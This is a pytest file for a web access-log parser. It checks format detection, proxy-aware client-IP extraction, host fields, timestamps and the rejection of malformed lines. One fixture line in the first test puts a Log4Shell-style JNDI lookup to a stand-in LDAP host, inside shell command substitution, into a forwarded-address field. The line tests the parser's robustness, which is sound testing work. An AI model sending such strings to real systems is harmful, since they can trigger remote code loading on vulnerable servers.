"""Which format a file is in, line by line, and that no line has a value of another field."""

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from darksocial.errors import InputError
from darksocial.formats import format_named
from darksocial.inputs.detect import detect
from darksocial.inputs.open import open_inputs
from darksocial.report.addresses import idle_option_notes
from darksocial.settings import ReadSettings
from tests.test_lines import engine

TIME = "[04/May/2026:10:00:00 +0200]"
TAIL = f'- - {TIME} "GET /p HTTP/1.1" 200 7 "-" "Agent/1"'
BEHIND_PROXY = ReadSettings(trusted_proxies=("10.0.0.0/8",))


def read(
    folder: Path, lines: Sequence[str], settings: ReadSettings | None = None
) -> tuple[str, list[dict[str, Any]]]:
    """Return the formats of a log and what became of its lines."""
    log = folder / "access.log"
    log.write_text("".join(f"{line}\n" for line in lines), "utf-8")
    inputs = open_inputs([str(log)], settings or ReadSettings())
    rows: list[dict[str, Any]] = engine().fetch(engine().parse_hits(inputs)).to_pylist()
    return inputs.read[0].format, sorted(rows, key=lambda row: int(row["line"]))


def values(rows: list[dict[str, Any]], name: str) -> list[Any]:
    assert [row["reason"] for row in rows] == [None] * len(rows)
    return [row[name] for row in rows]


def test_one_odd_list_of_addresses_does_not_decide_for_all(tmp_path: Path) -> None:
    lines = [f'10.0.0.2 {TAIL} "198.51.100.{n}"' for n in range(1, 30)]
    lines[11] = f'10.0.0.2 {TAIL} "$(x${{jndi:ldap://a.example/b}})"'
    name, rows = read(tmp_path, lines, BEHIND_PROXY)
    assert name == "nginx_main"
    expected = [f"198.51.100.{n}" for n in range(1, 30)]
    expected[11] = "10.0.0.2"
    assert values(rows, "client_ip") == expected
    assert rows[11]["user_agent"] == "Agent/1"


def test_lines_with_fewer_fields_are_read_beside_those_with_more(tmp_path: Path) -> None:
    lines = [f'10.0.0.2 {TAIL} "198.51.100.{n}"' for n in range(6)] + [f"10.0.0.2 {TAIL}"] * 4
    name, rows = read(tmp_path, lines, BEHIND_PROXY)
    assert "nginx_main" in name.split(" + ")
    assert values(rows, "client_ip") == [*(f"198.51.100.{n}" for n in range(6)), *["10.0.0.2"] * 4]


def test_a_host_without_a_dot_is_a_host_among_others(tmp_path: Path) -> None:
    hosts = ["a.example", "b.example", "localhost", "198.51.100.3:8080", "a.example"]
    tail = TAIL.removeprefix("- ")
    name, rows = read(tmp_path, [f"192.0.2.1 {host} {tail}" for host in hosts])
    assert name == "ovh"
    assert values(rows, "host") == [host.removesuffix(":8080") for host in hosts]


FIRST = ["192.0.2.7, 10.1.1.1", "192.0.2.8,10.1.1.1", "192.0.2.9"]


@pytest.mark.parametrize(
    ("starts", "clients"),
    [
        (FIRST, ["192.0.2.7", "192.0.2.8", "192.0.2.9"]),
        (["unknown, unknown", "192.0.2.8", "-"], [None, "192.0.2.8", None]),
        (["unknown, 192.0.2.7", "192.0.2.8", "-"], ["192.0.2.7", "192.0.2.8", None]),
        (["10.1.1.1 192.0.2.7", "10.1.1.1 2001:db8::8"], ["192.0.2.7", "2001:db8::8"]),
        (["192.0.2.7 10.1.1.1", "192.0.2.8 10.1.1.2"], ["192.0.2.7", "192.0.2.8"]),
        (["192.0.2.7 198.51.100.1", "192.0.2.8 198.51.100.1"], ["192.0.2.7", "192.0.2.8"]),
        (["192.0.2.7:51000", "[2001:db8::7]:51000"], ["192.0.2.7", "2001:db8::7"]),
        (["2001:db8:1:2:3:4:5:6:443", "2001:db8::9:51000"],
         ["2001:db8:1:2:3:4:5:6", "2001:db8::9"]),
    ],
)  # fmt: skip
def test_addresses_in_front_are_no_hosts(
    tmp_path: Path, starts: list[str], clients: list[str | None]
) -> None:
    _name, rows = read(tmp_path, [f"{start} {TAIL}" for start in starts])
    assert values(rows, "host") == [None] * len(starts)
    assert values(rows, "client_ip") == clients


def test_the_last_address_that_is_no_proxy_is_the_client(tmp_path: Path) -> None:
    _name, rows = read(tmp_path, [f"203.0.113.1, 192.0.2.7, 10.1.1.1 {TAIL}"], BEHIND_PROXY)
    assert values(rows, "client_ip") == ["192.0.2.7"]


def test_two_addresses_of_which_either_may_be_the_client_are_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no known format"):
        read(tmp_path, [f"192.0.2.7 198.51.100.1 {TAIL}"])


@pytest.mark.parametrize("host", ["www.example", "198.51.100.1:443", "dead.beef", ""])
def test_names_and_ports_of_servers_in_front_are_hosts(tmp_path: Path, host: str) -> None:
    _name, rows = read(tmp_path, [f"{host} 192.0.2.7 {TAIL}"])
    assert values(rows, "host") == [host.split(":")[0] or None]
    assert values(rows, "client_ip") == ["192.0.2.7"]


@pytest.mark.parametrize("end", ["", ' "x, y"', ' "SE" 0.2 up1'])
@pytest.mark.parametrize("start", ["192.0.2.7", "www.example 192.0.2.7"])
@pytest.mark.parametrize(
    ("moment", "utc"),
    [
        ("04/May/2026:10:00:00.250 +0200", "08:00:00.250000"),
        ("04/May/2026:10:00:00", "10:00:00"),
        ("04/May/2026:10:00:00.5", "10:00:00.500000"),
        ("2026-05-04T10:00:00+02:00", "08:00:00"),
    ],
)
def test_times_in_brackets(tmp_path: Path, moment: str, utc: str, start: str, end: str) -> None:
    line = f"{start} {TAIL}{end}".replace(TIME, f"[{moment}]")
    _name, rows = read(tmp_path, [line])
    [time] = values(rows, "time")
    assert f"{time:%Y-%m-%d} {time.time()}" == f"2026-05-04 {utc}"


@pytest.mark.parametrize(("narrow", "wide"), [(" - - ", " -  -  "), ('] "', ']  "')])
def test_two_spaces_stand_for_one(tmp_path: Path, narrow: str, wide: str) -> None:
    line = f"192.0.2.7 {TAIL}".replace("Agent/1", "An  agent")
    _name, [row] = read(tmp_path, [line.replace(narrow, wide)])
    assert (row["client_ip"], row["user"], row["user_agent"]) == ("192.0.2.7", None, "An  agent")


def test_quotes_in_a_user_agent_of_traefik(tmp_path: Path) -> None:
    line = f'192.0.2.7 {TAIL} 3 "web@file" "http://10.0.0.3" 5ms'
    odd = line.replace("Agent/1", 'An "odd" agent')
    name, rows = read(tmp_path, [line, odd])
    assert name == "traefik"
    assert values(rows, "user_agent") == ["Agent/1", 'An "odd" agent']


def test_w3c_lines_whose_fields_are_shifted_are_rejects(tmp_path: Path) -> None:
    lines = [
        "#Fields: date time cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent) c-ip",
        "2026-05-04 08:00:00 GET /p - 200 Agent/1 192.0.2.7",
        "2026-05-04 08:00:00 GET /p q=a b 200 Agent/1 192.0.2.7",
        '2026-05-04 08:00:00 GET /p q="a" 200 "An agent" 192.0.2.7 ',
        '2026-05-04 08:00:00 GET /p "a"b 200 Agent/1 192.0.2.7',
        "2026-05-04 08:00:00 GET /p a Agent/1 200 192.0.2.7",
    ]
    _name, rows = read(tmp_path, lines)
    assert [row["reason"] for row in rows] == [
        "comment",
        None,
        "has more than 8 columns",
        None,
        None,
        "the status is no number",
    ]
    hits = [row for row in rows if row["reason"] is None]
    assert values(hits, "query") == [None, 'q="a"', '"a"b']
    assert values(hits, "user_agent") == ["Agent/1", "An agent", "Agent/1"]


def test_an_option_without_effect_is_noted(tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text(f"10.0.0.2 {TAIL}\n")
    [note] = idle_option_notes(open_inputs([str(log)], BEHIND_PROXY), BEHIND_PROXY)
    assert note.startswith("combined: --trusted-proxy has no effect")
    log.write_text(f'10.0.0.2 {TAIL} "192.0.2.7"\n')
    assert idle_option_notes(open_inputs([str(log)], BEHIND_PROXY), BEHIND_PROXY) == ()


@pytest.mark.parametrize("start", ["10.0.0.2", "www.example 10.0.0.2"])
@pytest.mark.parametrize(
    ("extra", "is_list"),
    [
        (' 0.1 "x" "{}, 10.0.0.1" up-{}', True),
        (' "{}:{}" "www.example"', True),
        (' "10.0.0.{}:8080" x', False),
        (" {}", False),
        (' "{} x"', False),
    ],
)
def test_a_list_of_addresses_among_extra_fields(
    tmp_path: Path, start: str, extra: str, is_list: bool
) -> None:
    numbers = [f"198.51.100.{n}" if "10.0" not in extra[:8] else str(n) for n in range(1, 8)]
    lines = [f"{start} {TAIL}{extra.replace('{}', number, 1)}" for number in numbers]
    lines = [line.replace("{}", str(50_000 + n)) for n, line in enumerate(lines)]
    name, rows = read(tmp_path, lines, BEHIND_PROXY)
    assert name.endswith("_extra")
    assert values(rows, "client_ip") == (numbers if is_list else ["10.0.0.2"] * len(lines))


def test_a_number_behind_pages_is_no_time_of_listening(tmp_path: Path) -> None:
    name, rows = read(tmp_path, [f"192.0.2.7 {TAIL} 31"])
    assert name == "combined_extra"
    assert values(rows, "duration_ms") == [None]


def test_a_line_of_a_router_is_no_line_of_iis(tmp_path: Path) -> None:
    fields = "at=info method=GET path=/p host=a.example request_id=1 fwd=192.0.2.7 dyno=web.1"
    line = f"2026-05-04T08:00:00.5+00:00 heroku[router]: {fields} a=1 b=2 status=200 bytes=7"
    with pytest.raises(InputError, match="router log"):
        read(tmp_path, [line])


def test_lines_of_another_format_may_begin_late(tmp_path: Path) -> None:
    lines = [f"192.0.2.7 {TAIL}"] * 40 + [f"www.example.org 192.0.2.8 {TAIL}"] * 3
    name, rows = read(tmp_path, lines)
    assert name == "combined + vhost"
    assert values(rows, "host") == [None] * 40 + ["www.example.org"] * 3


@pytest.mark.parametrize(
    "line",
    [
        "2026-03-02 08:14:05 FRA2 7 192.0.2.7 GET d1.example.net /p 200 - Agent/1 - - Hit a",
        "2026-03-02 08:14:05 192.0.2.7 GET /p q=1 Agent/1 - 200 0 0 15 10.0.0.1 443 -",
    ],
)
def test_a_log_without_a_header_is_not_taken_for_that_of_iis(line: str, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no known format"):
        read(tmp_path, [line] * 3)


def test_two_records_in_a_line_are_no_match_as_they_are_no_hit(tmp_path: Path) -> None:
    whole = f"192.0.2.1 {TAIL}"
    lines = [whole, whole, f'192.0.2.1 - - {TIME} "GET /p HTTP/1.1" 200 7{whole}']
    name, rows = read(tmp_path, lines)
    assert [row["reason"] for row in rows] == [None, None, "holds two records"]
    claim = detect(lines, [format_named(name)]).nearest
    assert claim is not None
    assert (claim.matched, claim.misfits) == (2, (3,))
